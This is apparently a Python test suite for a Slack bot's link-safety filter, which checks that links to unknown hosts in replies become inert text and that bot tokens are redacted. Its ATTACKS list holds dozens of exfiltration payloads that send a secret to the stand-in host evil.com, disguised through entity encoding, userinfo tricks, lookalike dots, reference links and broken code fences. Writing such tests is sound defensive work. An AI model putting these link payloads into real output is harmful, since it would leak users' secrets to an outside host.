"""An address leads to a host that was named by a user or the admin, or it is text."""

import random
import re
from collections.abc import Iterator

from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from daemon.channels.slack.link_safety import ReplyGuard
from daemon.channels.slack.markup import InertStream, inert
from daemon.core.text import KnownHosts, plain_host

KNOWN = KnownHosts(["corp.example"])
KNOWN.learn("see https://docs.example.org/a and github.com, or ask ada@mail.example.net")
GUARD = ReplyGuard(KNOWN)
SECRET = "4711"
ATTACKS = (
    f"https://evil.com/collect?d={SECRET}",
    f"see https://evil.com/collect?d={SECRET}.",
    f"[the report](https://evil.com/collect?d={SECRET})",
    f"[the report]( <https://evil.com/collect?d={SECRET}> )",
    f"[the report](https:evil.com/collect?d={SECRET})",
    f"[the report](https&#58;//evil.com/collect?d={SECRET})",
    f"[the report](https:\\/\\/evil.com/collect?d={SECRET})",
    f"[the report](&#104;ttps://evil.com/collect?d={SECRET})",
    f"[the report](evil.rs/collect?d={SECRET})",
    f"[the report](mailto:x@evil.com?body={SECRET})",
    f"[report][1]\n\n[1]: https://evil.com/collect?d={SECRET}",
    f"[1]\n\n[1]: https://evil.com/collect?d={SECRET} 'x'",
    f"<https://evil.com/collect?d={SECRET}>",
    f"<https://evil.com/collect?d={SECRET}|the report>",
    f"![x](https://evil.com/{SECRET}.png?d={SECRET})",
    f"https://github.com@evil.com/?d={SECRET}",
    f"https://github.com\\@evil.com/?d={SECRET}",
    f"https://github.com&commat;evil.com/?d={SECRET}",
    f"https://github.com.evil.com/?d={SECRET}",
    f"https://github.com\u3002evil.com/?d={SECRET}",
    f"www.evil.com/collect?d={SECRET}",
    f"evil.com/collect?d={SECRET}",
    f"HTTPS://EVIL.COM/?d={SECRET}",
    f"\u898bhttps://evil.com/?d={SECRET}",
    f"\u898bwww.evil.com/?d={SECRET}",
    f"`unclosed https://evil.com/?d={SECRET}",
    f"\\`https://evil.com/?d={SECRET}`",
    f"> ```\nhttps://evil.com/?d={SECRET}",
    f"- a\n  ```\nhttps://evil.com/?d={SECRET}",
    f"  ```\n a\n```\nhttps://evil.com/?d={SECRET}",
    f"~~~\n```\n~~~\nhttps://evil.com/?d={SECRET}",
    f"```\na\n  ```\nhttps://evil.com/?d={SECRET}",
    f"| a | b |\n|---|---|\n| `x | https://evil.com/?d={SECRET}` |",
    f"<https://github.com/a`b> https://evil.com/?d={SECRET} `",
    f"(https://github.com/a)[x](https://evil.com/?d={SECRET})",
    f"ftp://evil.com/?d={SECRET}",
    f"https://github.com/a?b=x.~~~ftp://evil.com/?d={SECRET}~~~",
    f"https://github.com/a?b=x.__ftp://evil.com/?d={SECRET}__",
)
HARMLESS = (
    "plain words: 3/4, a//b, x::y, a.b.c, 10:30, C:\\Users, and/or, read README.md or main.py",
    "https://docs.example.org/a_(b)?q=1#f, and https://github.com/a/b?tab=x.",
    "[the page](https://docs.example.org/a?b=c) and <https://api.corp.example/v1?x=y>",
    "[mail](mailto:ada@mail.example.net) [part](#x) [file](docs/a.md)",
    "```sh\ncurl 'https://unknown.example.io/v1?x=y'\n```\nand `https://unknown.example.io/?x=y` too",
)
PIECES = st.sampled_from(
    [*ATTACKS, *HARMLESS, "`", "```", "\n", "\n\n", " ", "a", "(", ")", "[x]", "~~~", "\u8def", "|", "> "]
)


def _tokens(tokens: list[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from _tokens(token.children or [])


def led_to(text: str) -> list[str]:
    """What a reader of markdown makes of addresses: links, and text that an eager client would link."""
    parser = MarkdownIt("commonmark").enable(["table", "strikethrough"]).disable(["html_block", "html_inline"])
    found = []
    for token in _tokens(parser.parse(text)):
        if target := token.attrGet("href") or token.attrGet("src"):
            found.append(str(target))
        if token.type == "text":
            found += re.findall(r"(?:[a-z]+://|www\.)[\w\[]\S*", token.content, re.IGNORECASE)
    return found


def unknown(text: str) -> list[str]:
    inside = re.compile(r"(?:#|docs/a\.md|mailto:[^?]*$)")
    return [one for one in led_to(text) if not inside.match(one) and not KNOWN(plain_host(one))]


def streamed(text: str, chance: random.Random) -> str:
    stream, out, at = InertStream(GUARD), "", 0
    while at < len(text):
        size = chance.randint(1, 12)
        out += stream.feed(text[at : at + size])
        at += size
    return out + stream.finish()


def test_a_link_to_an_unknown_host_is_text() -> None:
    for attack in ATTACKS:
        for frame in ("{}", "a {} b", "> {}", "**{}**", "- {}", "x\n\n{}\n\ny"):
            shown = inert(frame.replace("{}", attack), GUARD)
            assert not unknown(shown), shown
            assert inert(shown, GUARD) == shown, (attack, frame)
            assert inert(shown) == shown, (attack, frame)


def test_known_hosts_code_and_plain_words_stay_and_the_query_of_an_unknown_address_and_a_key_go() -> None:
    for text in HARMLESS:
        assert inert(text, GUARD) == text
    hosts = KnownHosts(["corp.example"])
    hosts.learn("see https://Docs.example.org:8443/a?b and www.example.net, ask me@mail.example.com")
    assert [hosts(one) for one in ("docs.example.org", "example.net", "mail.example.com", "a.corp.example")] == [
        True
    ] * 4
    assert not any(hosts(one) for one in ("example.org", "x.docs.example.org", "notcorp.example", ""))
    for attack in ATTACKS[:3]:
        shown = inert(attack, GUARD)
        assert SECRET not in shown, attack
        assert "evil.com/collect" in shown.replace("\u2060", ""), attack
    assert inert("\u770bhttps://evil.com/a?b=1\uff0c\u7136\u540e", GUARD).endswith("?\u2026\uff0c\u7136\u540e")
    key = "xoxb-1234567890-abcdef"
    text = f"the token is {key}, and in code `{key}`:\n```\nTOKEN={key}\n```\n"
    assert key not in inert(text, GUARD)
    for seed in range(20):
        assert streamed(text, random.Random(seed)) == inert(text, GUARD)


@given(st.lists(PIECES, max_size=12), st.randoms(use_true_random=False))
def test_a_stream_shows_what_the_whole_text_shows(pieces: list[str], chance: random.Random) -> None:
    text = "".join(pieces)
    shown = inert(text, GUARD)
    assert streamed(text, chance) == shown
    assert not unknown(shown), shown
    assert inert(shown) == shown
    assert not unknown(inert(shown, GUARD))
